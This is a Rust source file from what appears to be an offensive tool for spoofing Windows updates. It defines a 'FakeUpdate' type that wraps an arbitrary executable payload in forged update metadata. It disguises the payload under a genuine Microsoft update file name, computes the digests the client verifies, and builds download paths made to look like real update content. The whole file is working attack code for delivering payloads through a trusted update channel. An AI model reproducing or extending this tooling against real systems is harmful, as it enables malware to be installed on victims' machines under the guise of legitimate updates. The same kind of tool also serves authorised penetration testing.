use std::fs;
use std::path::Path;

use base64::prelude::{Engine as _, BASE64_STANDARD};
use bytes::Bytes;
use sha1::Sha1;
use sha2::{Digest, Sha256};

use crate::config::PayloadSpec;
use crate::errors::{Error, Result};

// Any values work as long as they never collide with a real update id.
const BUNDLE_ID: u32 = 17_999_990;
const DEPLOY_BUNDLE_ID: u32 = 899_990;

// The client stores the payload in its download cache under this name.
const ORIG_FILENAME: &str = "Windows-KB890830-V5.22.exe";

/// A forged update built around one executable payload.
///
/// Holds the payload bytes plus everything the forged metadata refers to:
/// identity numbers, digests and the download path the payload will be
/// served from.
#[derive(Debug, Clone)]
pub struct FakeUpdate {
  title: String,
  description: String,
  args: String,
  payload_path: String,
  bundle_id: u32,
  install_id: u32,
  deploy_bundle_id: u32,
  deploy_install_id: u32,
  data: Bytes,
  sha1_b64: String,
  sha256_b64: String,
  sha1_hex: String,
  download_path: String,
}

impl FakeUpdate {
  /// Build an update around an executable under `payload_dir`.
  pub fn new<P: AsRef<Path>>(payload_dir: P, spec: &PayloadSpec) -> Result<FakeUpdate> {
    let path = payload_dir.as_ref().join(spec.payload());
    let data = fs::read(&path)
      .map_err(|e| Error::Config(format!("payload {}: {}", path.display(), e)))?;
    Ok(Self::from_bytes(spec, &path, Bytes::from(data)))
  }

  /// Build an update from payload bytes already in memory.
  ///
  /// `path` only contributes its text: the extension ends up in the download
  /// path and the full path in the forged install command line.
  pub fn from_bytes(spec: &PayloadSpec, path: &Path, data: Bytes) -> FakeUpdate {
    let sha1_digest = Sha1::digest(&data);
    let sha256_digest = Sha256::digest(&data);
    let sha1_hex = format!("{:x}", sha1_digest);
    let sha1_b64 = BASE64_STANDARD.encode(sha1_digest.as_slice());
    let sha256_b64 = BASE64_STANDARD.encode(sha256_digest.as_slice());
    let download_path = gen_download_path(&sha1_hex, path);
    FakeUpdate {
      title: spec.title().to_string(),
      description: spec.description().to_string(),
      args: spec.args().to_string(),
      payload_path: path.display().to_string(),
      bundle_id: BUNDLE_ID,
      install_id: BUNDLE_ID + 1,
      deploy_bundle_id: DEPLOY_BUNDLE_ID,
      deploy_install_id: DEPLOY_BUNDLE_ID + 1,
      data,
      sha1_b64,
      sha256_b64,
      sha1_hex,
      download_path,
    }
  }

  /// Update title shown in the client's update UI.
  #[inline]
  pub fn title(&self) -> &str {
    &self.title
  }
  /// Update description shown in the client's update UI.
  #[inline]
  pub fn description(&self) -> &str {
    &self.description
  }
  /// Command line handed to the payload when it runs.
  #[inline]
  pub fn args(&self) -> &str {
    &self.args
  }
  /// Path the payload was loaded from, as text.
  #[inline]
  pub fn payload_path(&self) -> &str {
    &self.payload_path
  }
  /// Name the client gives the payload in its download cache.
  #[inline]
  pub fn orig_filename(&self) -> &str {
    ORIG_FILENAME
  }
  /// Identity of the forged bundle update.
  #[inline]
  pub fn bundle_id(&self) -> u32 {
    self.bundle_id
  }
  /// Identity of the forged install update.
  #[inline]
  pub fn install_id(&self) -> u32 {
    self.install_id
  }
  /// Deployment id paired with the bundle.
  #[inline]
  pub fn deploy_bundle_id(&self) -> u32 {
    self.deploy_bundle_id
  }
  /// Deployment id paired with the install.
  #[inline]
  pub fn deploy_install_id(&self) -> u32 {
    self.deploy_install_id
  }
  /// The payload bytes.
  #[inline]
  pub fn data(&self) -> &Bytes {
    &self.data
  }
  /// Standard base64 of the payload's SHA-1 digest.
  #[inline]
  pub fn sha1_b64(&self) -> &str {
    &self.sha1_b64
  }
  /// Standard base64 of the payload's SHA-256 digest.
  #[inline]
  pub fn sha256_b64(&self) -> &str {
    &self.sha256_b64
  }
  /// Lowercase hex of the payload's SHA-1 digest.
  #[inline]
  pub fn sha1_hex(&self) -> &str {
    &self.sha1_hex
  }
  /// Absolute path the payload is served from.
  #[inline]
  pub fn download_path(&self) -> &str {
    &self.download_path
  }

  /// Absolute URL the client should fetch the payload from.
  pub fn download_url(&self, host: &str) -> String {
    format!("http://{}{}", host, self.download_path)
  }
}

// Shaped like a genuine content URL. Clients cache aggressively by URL, so
// reusing a path across different payload bytes serves the stale one.
fn gen_download_path(sha1_hex: &str, path: &Path) -> String {
  let extension = path
    .extension()
    .map(|e| format!(".{}", e.to_string_lossy()))
    .unwrap_or_default();
  let hash = sha1_hex.to_uppercase();
  format!("/Content/{}/{}{}", &hash[hash.len() - 2..], hash, extension)
}
